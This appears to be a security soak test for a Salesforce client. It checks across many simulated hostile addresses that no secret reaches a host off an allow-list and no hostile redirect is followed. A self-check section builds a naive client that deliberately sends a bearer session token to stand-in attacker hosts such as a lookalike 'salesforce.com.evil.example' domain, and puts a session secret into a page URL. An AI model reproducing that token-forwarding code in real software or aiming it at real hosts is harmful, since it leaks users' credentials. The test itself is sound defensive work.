import { request as requestSecurely } from 'node:https';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Clock } from '../../src/core/base/clock.ts';
import { systemClock } from '../../src/dap/systemClock.ts';
import { secretForms } from '../support/canary/secretForms.ts';
import { addressKinds, hostileAddress } from '../support/network/hostileAddresses.ts';
import { followed, HostileOrg, type Hostility } from '../support/network/hostileOrg.ts';
import { NetworkRun, type SentRequest, WatchedNetwork } from '../support/network/watchedNetwork.ts';
import { honestOrg, openGateway, secrets, type Visitor, type WayIn, waysIn } from '../support/network/waysIntoOrgs.ts';
import { Draws } from '../support/random.ts';
import { amount, type Soak } from './soak.ts';

/** Pieces of work at a time: most of them wait for the loopback interface. */
const lanes = 12;
/** Milliseconds that one piece of work may take. Nothing here is slow, but for what waits for an org on purpose. */
const patience = { answers: 10_000, waits: 150 };
const mostTold = 20;
/** That one piece of work needs, and far more. */
const mostRequests = 600;

const forms = Object.values(secrets).flatMap((secret) => [...secretForms(secret).values()]);
/** Names under which a secret that nobody could know beforehand is sent. */
const secretNames = /code_verifier=|"authorization":|<sessionId>/i;

/** Salesforce's own hosts by rules of this soak's own, so that nothing of the product judges itself. */
function isSalesforce(origin: string): boolean {
  return /^https:\/\/(?:[a-z0-9-]+\.)+(?:salesforce\.com|my\.salesforce\.mil|my\.sfcrmproducts\.cn)$/.test(origin);
}

function isHere(origin: string): boolean {
  return ['127.0.0.1', 'localhost'].includes(new URL(origin).hostname);
}

function hasSecret({ text }: SentRequest): boolean {
  return secretNames.test(text) || forms.some((form) => text.includes(form));
}

/** Waits between tries are short, so that many tries go into a short time; time limits are as they are. */
const hastyClock: Clock = {
  now: () => systemClock.now(),
  monotonic: () => systemClock.monotonic(),
  schedule: (delay, callback) => systemClock.schedule(delay < 5_000 ? Math.min(delay, 2) : delay, callback),
};

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  await new Promise((done) => server.close(done));
  return port;
}

interface Trial {
  readonly way: WayIn;
  readonly address: string;
  readonly hostility: Hostility;
  readonly seed: number;
}

/** What has become of all trials. */
class Tally {
  readonly breaches: string[] = [];
  readonly #reached = new Set<string>();
  readonly #ownOrigin: string;
  requests = 0;
  elsewhere = 0;
  leaks = 0;
  redirectsFollowed = 0;
  cutOff = 0;
  /** Trials that sent nothing. */
  silent = 0;

  constructor(ownOrigin: string) {
    this.#ownOrigin = ownOrigin;
  }

  tell({ way, address, hostility }: Trial, problem: string): void {
    const breach = `${way.name}, ${hostility}, ${JSON.stringify(address)}: ${problem}`;
    if (this.breaches.length < mostTold && !this.breaches.includes(breach)) {
      this.breaches.push(breach);
    }
  }

  judge(trial: Trial, sent: SentRequest): void {
    const { way } = trial;
    const isAllowed = this.#mayGoTo(sent.origin, way);
    this.requests += 1;
    if (!isAllowed) {
      this.elsewhere += 1;
    } else {
      this.#reached.add(way.name);
    }
    if (hasSecret(sent) && (!isAllowed || way.isPublic === true)) {
      this.leaks += 1;
      this.tell(trial, `sent a secret to ${sent.origin}`);
    }
    // An honest org's own next page may have any name.
    if (sent.path.includes(followed) && (trial.hostility === 'redirects' || !isAllowed)) {
      this.redirectsFollowed += 1;
      this.tell(trial, `followed the org to ${sent.origin}${sent.path}`);
    }
  }

  /** A page for the browser: it gets nothing secret, and is an org's or on this machine. */
  judgePage(trial: Trial, url: string): void {
    this.#reached.add(trial.way.name);
    const { origin } = new URL(url);
    if (!this.#isOnList(origin) && !isHere(origin)) {
      this.tell(trial, `opened ${origin} in the browser`);
    }
    if (forms.some((form) => url.includes(form))) {
      this.tell(trial, 'put a secret into a page that the browser was to open');
    }
  }

  /** A way that leads nowhere would show nothing. */
  withoutEffect(): readonly string[] {
    return waysIn.filter(({ name }) => !this.#reached.has(name)).map(({ name }) => `${name}: nothing was sent at all.`);
  }

  /** Who is in an org stays there, whatever the org says; a sign-in may lead to any. */
  #mayGoTo(origin: string, { isEntry, leadsOn, isPublic, allowsLoopback }: WayIn): boolean {
    if (isEntry || leadsOn === true) {
      return this.#isOnList(origin) || (allowsLoopback === true && isHere(origin));
    }
    return origin === (isPublic === true ? 'https://api.status.salesforce.com' : honestOrg);
  }

  #isOnList(origin: string): boolean {
    return isSalesforce(origin) || origin === this.#ownOrigin;
  }
}

/** Ends with its time, whatever the work does. */
async function within(milliseconds: number, work: (signal: AbortSignal) => Promise<unknown>): Promise<boolean> {
  const stop = new AbortController();
  let timer: NodeJS.Timeout | undefined;
  const over = new Promise<'over'>((done) => {
    timer = setTimeout(() => done('over'), milliseconds);
  });
  const outcome = await Promise.race([work(stop.signal).catch(() => 'refused'), over]);
  clearTimeout(timer);
  stop.abort();
  return outcome !== 'over';
}

type Lane = Pick<Visitor, 'gateway' | 'transport' | 'cliHome' | 'callbackPort'>;

async function attempt(trial: Trial, network: WatchedNetwork, lane: Lane, tally: Tally): Promise<void> {
  const { way, address, hostility, seed } = trial;
  const draws = new Draws(seed);
  const org = new HostileOrg(hostility, address, draws);
  const run: NetworkRun = new NetworkRun((request) => {
    tally.judge(trial, request);
    if (run.sent === mostRequests) {
      tally.tell(trial, `sent ${mostRequests} requests and goes on`);
    }
    return run.sent < mostRequests ? org.answer(request) : { status: 503 };
  });
  const ends: (() => unknown)[] = [];
  const limit = way.waits === true ? patience.waits : patience.answers;
  await network.within(run, async () => {
    const hasEnded = await within(limit, async (signal) =>
      way.enter(address, {
        ...lane,
        clock: hastyClock,
        draws,
        signal,
        defer: (end) => void ends.push(end),
        opens: (url) => tally.judgePage(trial, url),
      }),
    );
    if (!hasEnded) {
      tally.cutOff += 1;
      if (way.waits !== true) {
        tally.tell(trial, `was not done after ${limit} ms`);
      }
    }
    await within(1_000, () => Promise.allSettled(ends.map((end) => Promise.resolve().then(end))));
  });
  tally.silent += run.sent === 0 ? 1 : 0;
}

function trialsOf(addresses: readonly string[], draws: Draws): readonly Trial[] {
  return addresses.flatMap((address) =>
    waysIn.flatMap((way): readonly Trial[] => {
      const hostilities: readonly Hostility[] = way.isEntry
        ? [draws.one(['none', 'redirects', 'replies'])]
        : ['redirects', 'replies'];
      return hostilities.map((hostility) => ({ way, address, hostility, seed: draws.below(2 ** 31) }));
    }),
  );
}

/** A client that trusts what it is told: everything that the watch is for must be seen of it. */
async function blindSpots(network: WatchedNetwork): Promise<readonly string[]> {
  const tally = new Tally(honestOrg);
  const way: WayIn = { name: 'a naive client', isEntry: true, enter: () => Promise.resolve() };
  const trial: Trial = { way, address: '', hostility: 'none', seed: 0 };
  const run: NetworkRun = new NetworkRun((request) => {
    tally.judge(trial, request);
    return { status: 302, headers: { location: `https://evil.example/${followed}` } };
  });
  await network.within(run, async () => {
    await naiveRequest('https://acme.my.salesforce.com.evil.example/services/data');
    await naiveRequest(`https://evil.example/${followed}`);
    await fetch('https://evil.example/').catch(() => undefined);
  });
  tally.judgePage(trial, `https://evil.example/?session=${encodeURIComponent(secrets.session)}`);
  const strays = network.strays.splice(0);
  return [
    ...(tally.leaks === 2 ? [] : [`Of 2 secrets that a naive client sent elsewhere, ${tally.leaks} were seen.`]),
    ...(tally.redirectsFollowed === 1 ? [] : ['A redirect that a naive client followed was not seen.']),
    ...(strays.length > 0 ? [] : ['A connection past node:https was not seen.']),
    ...(tally.breaches.length === 5 ? [] : ['Not everything that a naive client did became a breach.']),
  ];
}

function naiveRequest(url: string): Promise<void> {
  return new Promise((done) => {
    const headers = { authorization: `Bearer ${secrets.session}` };
    requestSecurely(url, { headers }, (response) => {
      response.resume();
      done();
    })
      .once('error', () => done())
      .end();
  });
}

const hostileAddresses: Soak = {
  id: 'X2',
  title: 'no secret goes to a host off the list, and no redirect is followed, by any way into an org',
  run: async (scale) => {
    const network = await WatchedNetwork.open();
    const draws = new Draws(scale.seed);
    const count = amount(scale, 2_000, 27);
    const ports = { evil: network.evilPort };
    const addresses = Array.from({ length: count }, (_, index) => hostileAddress(index, draws, ports));
    const ownOrigin = `http://127.0.0.1:${network.ownPort}`;
    const tally = new Tally(ownOrigin);
    try {
      tally.breaches.push(...(await blindSpots(network)));
      // The user's own sample org is on the list, so that what is refused is refused for its address.
      const trials = [...trialsOf([honestOrg, ownOrigin], draws), ...trialsOf(addresses, draws)];
      const total = trials.length;
      const left = [...trials];
      const work = async (): Promise<void> => {
        const lane = { ...openGateway(hastyClock, ownOrigin), callbackPort: await freePort() };
        for (let trial = left.shift(); trial !== undefined; trial = left.shift()) {
          await attempt(trial, network, lane, tally);
        }
        lane.transport.dispose();
        lane.cliHome.dispose();
      };
      await Promise.all(Array.from({ length: lanes }, work));
      tally.breaches.push(...tally.withoutEffect(), ...network.strays.map((stray) => `There was ${stray}.`));
      return {
        count,
        of: `addresses of ${addressKinds.length} kinds by ${waysIn.length} ways`,
        figures:
          `${total} trials, ${tally.requests} requests, ${tally.silent} trials sent none; ${tally.leaks} secrets to a host off the list, ` +
          `${tally.elsewhere} requests there, ${tally.redirectsFollowed} redirects followed, ${tally.cutOff} waits cut off`,
        breaches: tally.breaches.slice(0, mostTold),
      };
    } finally {
      await network.close();
    }
  },
};

export const soaks: readonly Soak[] = [hostileAddresses];
